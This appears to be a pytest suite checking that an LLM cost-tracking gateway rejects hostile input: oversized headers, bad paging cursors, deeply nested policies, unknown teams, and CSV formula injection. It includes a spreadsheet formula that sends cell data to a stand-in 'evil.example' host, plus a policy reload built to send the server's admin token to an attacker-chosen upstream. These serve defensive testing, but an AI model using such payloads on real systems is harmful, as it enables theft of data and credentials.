"""Hostile input through a running gateway (SPEC §10): attribution values, policy reloads, admin
cursors, credentials and CSV exports. Each is refused with a clear 400, stores nothing, or is
neutralised."""

from __future__ import annotations

import base64
import csv
import io
import json
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import httpx
import orjson
import pytest
from typer.testing import CliRunner

from costwarden.cli import app as cli_app
from gateway_fixtures import Gateway, start_gateway
from servers import serving

ADMIN = "bootstrap-admin-secret"
DEPARTMENTS = "departments: {SALES: {}, MARKETING: {}, ENGINEERING: {}, HR: {}, SUPPORT: {teams: {TIER1-DESK: {}}}}\n"


def chat(gw: Gateway, dept: str = "SALES", body: dict[str, Any] | None = None,
         client: httpx.Client | None = None, **headers: str) -> httpx.Response:
    payload = {"model": "gpt-4o-mini", "max_tokens": 20, "messages": [{"role": "user", "content": "hi"}],
               **(body or {})}
    post = client.post if client is not None else httpx.post
    return post(f"{gw.url}/v1/chat/completions", json=payload, timeout=30,
                headers={"Authorization": f"Bearer {gw.keys[dept]}",
                         **{name.replace("_", "-"): value for name, value in headers.items()}})


def admin(gw: Gateway, method: str, path: str, **kw: Any) -> httpx.Response:
    return httpx.request(method, f"{gw.url}/admin/v1{path}", headers={"Authorization": f"Bearer {ADMIN}"},
                         timeout=30, **kw)


def error_of(reply: httpx.Response, status: int = 400) -> dict[str, Any]:
    assert reply.status_code == status, reply.text
    assert reply.headers["content-type"].startswith("application/json")
    found: dict[str, Any] = reply.json()["error"]
    return found


def stored(gw: Gateway) -> tuple[int, int]:
    """(events, rejections) in the gateway's ledger."""
    async def count(ledger: Any) -> tuple[int, int]:
        return await ledger.count_events(), await ledger.count_rejections()
    result: tuple[int, int] = gw.ledger_query(count)
    return result


@pytest.fixture
def gw(tmp_path: Path, mock_url: str) -> Iterator[Gateway]:
    yield from start_gateway(tmp_path, mock_url, admin_token=ADMIN)


# -- attribution --------------------------------------------------------------------------------


def test_oversized_unknown_and_too_many_values_are_refused_and_nothing_is_stored(gw: Gateway) -> None:
    served_before = gw.mock_stats()["requests"]
    with httpx.Client() as client:
        for i in range(100):  # distinct 200 KB user ids (each once grew memory and the database)
            error = error_of(chat(gw, client=client, x_user_id=f"{i}-" + "u" * 200_000))
            assert error["param"] == "X-User-ID" and "the limit is 128" in error["message"]
            assert len(error["message"]) < 300
        for i in range(100):
            error = error_of(chat(gw, "SUPPORT", client=client, x_team_id=f"TEAM-{i}"))
            assert error["code"] == "unknown_team" and f"'TEAM-{i}'" in error["message"]
            assert "TIER1-DESK" in error["message"]
            error = error_of(chat(gw, client=client, x_team_id="t" * 129))
            assert error["param"] == "X-Team-ID"
        for i in range(50):
            error = error_of(chat(gw, client=client, x_tags=",".join(f"k{i}-{n}=v" for n in range(33))))
            assert error["param"] == "X-Tags" and "at most 32" in error["message"]
            error = error_of(chat(gw, client=client, body={"user": f"{i}" * 129}))
            assert error["param"] == "user"
            error = error_of(chat(gw, client=client, x_department_id="D" * 5000))
            assert error["param"] == "X-Department-ID"
    assert stored(gw) == (0, 0)
    assert gw.mock_stats()["requests"] == served_before
    # within the bounds, the same fields are recorded as sent
    ok = chat(gw, "SUPPORT", x_team_id="tier1-desk", x_user_id="u" * 128, x_tags="project=atlas")
    assert ok.status_code == 200, ok.text
    [event] = gw.ledger_query(lambda ledger: ledger.list_events(limit=10))
    assert (event.team, event.user, dict(event.tags)) == ("TIER1-DESK", "u" * 128, {"project": "atlas"})


# -- the upstream credential allow-list ----------------------------------------------------------


class Receiver:
    """An upstream of an attacker's choosing: records every request it gets."""

    def __init__(self) -> None:
        self.requests: list[tuple[dict[str, str], bytes]] = []

    async def __call__(self, scope: dict[str, Any], receive: Any, send: Any) -> None:
        if scope["type"] != "http":
            return
        body = b""
        while True:
            message = await receive()
            body += message.get("body", b"")
            if not message.get("more_body"):
                break
        self.requests.append(({k.decode(): v.decode() for k, v in scope["headers"]}, body))
        answer = orjson.dumps({"id": "x", "object": "chat.completion", "model": "gpt-4o-mini", "choices": [
            {"index": 0, "message": {"role": "assistant", "content": "ok"}, "finish_reason": "stop"}],
            "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2}})
        await send({"type": "http.response.start", "status": 200, "headers": [(b"content-type", b"application/json")]})
        await send({"type": "http.response.body", "body": answer})

    def saw(self, secret: str) -> bool:
        return any(secret in value for headers, body in self.requests
                   for value in (*headers.values(), body.decode(errors="replace")))


@contextmanager
def secret_gateway(tmp: Path, mock_url: str, **settings: Any) -> Iterator[Gateway]:
    """A gateway whose environment holds its admin token, as ``serve`` has it."""
    with contextmanager(start_gateway)(tmp, mock_url, admin_token=ADMIN,
                                       environ={"COSTWARDEN_ADMIN_TOKEN": ADMIN}, **settings) as running:
        yield running


def hostile_policy(receiver_url: str, mock_url: str) -> str:
    return (f"version: 1\nupstreams:\n"
            f"  openai: {{type: openai, base_url: '{receiver_url}/v1', api_key_env: COSTWARDEN_ADMIN_TOKEN}}\n"
            f"  anthropic: {{type: anthropic, base_url: '{mock_url}', api_key_env: ANTHROPIC_API_KEY}}\n"
            + DEPARTMENTS)


def test_a_reload_cannot_send_the_servers_secrets_upstream(tmp_path: Path, mock_url: str) -> None:
    receiver = Receiver()
    with serving(receiver) as receiver_url, secret_gateway(tmp_path / "guarded", mock_url) as gw:
        version = admin(gw, "GET", "/policy").json()["version"]
        refused = admin(gw, "POST", "/policy/reload", content=hostile_policy(receiver_url, mock_url))
        error = error_of(refused)
        assert error["code"] == "invalid_policy"
        assert ("upstreams.openai.api_key_env: COSTWARDEN_ADMIN_TOKEN is not among the variables this server "
                "may send upstream (ANTHROPIC_API_KEY, OPENAI_API_KEY)") in error["message"]
        assert admin(gw, "GET", "/policy").json()["version"] == version
        assert chat(gw).status_code == 200  # served by the policy in force, through the mock
        assert receiver.requests == [] and not receiver.saw(ADMIN)
        # the same reload on a server whose operator allowed the variable goes through: what stopped
        # it above was the allow-list, nothing else
        allowed = ("OPENAI_API_KEY", "ANTHROPIC_API_KEY", "COSTWARDEN_ADMIN_TOKEN")
        with secret_gateway(tmp_path / "open", mock_url, upstream_env=allowed) as permissive:
            accepted = admin(permissive, "POST", "/policy/reload", content=hostile_policy(receiver_url, mock_url))
            assert accepted.status_code == 200, accepted.text
            assert chat(permissive).status_code == 200
            assert receiver.saw(ADMIN)


# -- admin API input ------------------------------------------------------------------------------


def cursor(data: dict[str, Any]) -> str:
    return base64.urlsafe_b64encode(orjson.dumps(data)).decode().rstrip("=")


@pytest.mark.parametrize("params", [
    {"cursor": cursor({"at": "9999-12-31T23:59:59.999999+00:00", "seen": 0})},
    {"cursor": cursor({"at": "9999-12-31T23:00:00-05:00", "seen": 0})},
    {"cursor": cursor({"at": "2026-11-01T00:00:00+00:00", "seen": 1e20})},
    {"cursor": base64.urlsafe_b64encode(b'{"at":"2026-11-01T00:00:00+00:00","seen":100000000000000000000}').decode()},
    {"cursor": cursor({"at": "2026-11-01T00:00:00+00:00", "seen": -1})},
    {"until": "9999-12-31T23:59:59-05:00"},
], ids=["year-9999", "year-9999-offset", "seen-1e20", "seen-big-int", "seen-negative", "until-out-of-range"])
def test_out_of_range_paging_input_is_a_400_in_the_api_shape(gw: Gateway, params: dict[str, str]) -> None:
    for path in ("/events", "/rejections"):
        error = error_of(admin(gw, "GET", path, params=params))
        assert error["type"] == "invalid_request_error"
        assert error["param"] in ("cursor", "until")


def test_a_deeply_nested_reload_is_a_clear_400(gw: Gateway) -> None:
    for text in ("departments: " + "[" * 5000 + "]" * 5000, "departments: " + "{a: " * 5000 + "1" + "}" * 5000):
        error = error_of(admin(gw, "POST", "/policy/reload", content=text))
        assert error["code"] == "invalid_policy" and "nesting deeper than 64 levels" in error["message"]


def test_credentials_name_departments_and_teams_the_policy_has(gw: Gateway) -> None:
    error = error_of(admin(gw, "POST", "/tokens", json={"role": "manager", "department": "NOPE"}))
    assert error["code"] == "unknown_department"
    error = error_of(admin(gw, "POST", "/keys", json={"department": "SUPPORT", "team": "NIGHT-SHIFT"}))
    assert error["code"] == "unknown_team" and "TIER1-DESK" in error["message"]
    error = error_of(admin(gw, "POST", "/keys", json={"team": "TIER1-DESK"}))
    assert error["param"] == "team"
    created = admin(gw, "POST", "/keys", json={"department": "SUPPORT", "team": "tier1-desk"})
    assert created.status_code == 201 and created.json()["team"] == "TIER1-DESK"


def test_the_cli_refuses_unknown_departments_and_teams(gw: Gateway) -> None:
    runner = CliRunner()
    for args in (["tokens", "create", "--role", "manager", "--department", "NOPE"],
                 ["keys", "create", "--department", "SUPPORT", "--team", "NIGHT-SHIFT"],
                 ["keys", "create", "--team", "TIER1-DESK"]):
        result = runner.invoke(cli_app, [*args, "--db", gw.db_url])
        assert result.exit_code == 1, args
        assert result.output.startswith("error: ") and len(result.output.splitlines()) == 1, result.output
    result = runner.invoke(cli_app, ["tokens", "create", "--role", "manager", "--department", "hr", "--json",
                                     "--db", gw.db_url])
    assert result.exit_code == 0 and json.loads(result.output)["department"] == "HR"


# -- CSV exports ---------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def test_csv_exports_do_not_carry_live_formulas(tmp_path: Path, mock_url: str) -> None:
    policy = (f"version: 1\nupstreams:\n"
              f"  openai: {{type: openai, base_url: https://api.openai.com/v1, api_key_env: OPENAI_API_KEY}}\n"
              f"  anthropic: {{type: anthropic, base_url: https://api.anthropic.com, api_key_env: ANTHROPIC_API_KEY}}\n"
              f"departments:\n  SALES: {{name: '{FORMULA.replace(chr(39), chr(39) * 2)}', cost_center: '@SUM(1)'}}\n"
              f"  MARKETING: {{}}\n  ENGINEERING: {{}}\n  HR: {{}}\n  SUPPORT: {{}}\n")
    with contextmanager(start_gateway)(tmp_path, mock_url, policy) as gw:
        costly = {"model": "gpt-4o", "max_tokens": 5000,  # $0.05: enough for whole cents in the statement
                  "messages": [{"role": "user", "content": "hi #mock output_tokens=5000"}]}
        reply = chat(gw, body=costly, x_user_id=FORMULA, x_tags="note=-1")
        assert reply.status_code == 200, reply.text
        runner = CliRunner()
        export = tmp_path / "ledger.csv"
        exported = runner.invoke(cli_app, ["ledger", "export", "--format", "csv", "-o", str(export), "--db", gw.db_url])
        assert exported.exit_code == 0, exported.output
        [row] = list(csv.DictReader(io.StringIO(export.read_text())))
        assert row["user"] == "'" + FORMULA
        assert row["tags"] == '{"note":"-1"}'  # JSON text starts with '{': nothing to neutralise
        assert row["cost_usd"] == reply.headers["x-costwarden-cost-usd"] and not row["cost_usd"].startswith("'")
        period = row["admitted_at"][:7]
        # the period's chargeback: the department's name and cost center come from the policy
        report = tmp_path / "chargeback.csv"
        statement = runner.invoke(cli_app, ["report", "chargeback", "--period", period, "--format", "csv",
                                            "--invoice-total", "0", "-o", str(report), "--db", gw.db_url])
        assert statement.exit_code == 0, statement.output
        lines = list(csv.DictReader(io.StringIO(report.read_text())))
        sales = next(line for line in lines if line["department_id"] == "SALES")
        assert (sales["department_name"], sales["cost_center"]) == ("'" + FORMULA, "'@SUM(1)")
        assert sales["variance_usd"].startswith("-")  # an invoice of $0: a negative number, kept a number
        assert not any(value.startswith(("=", "+", "@")) for line in lines for value in line.values())
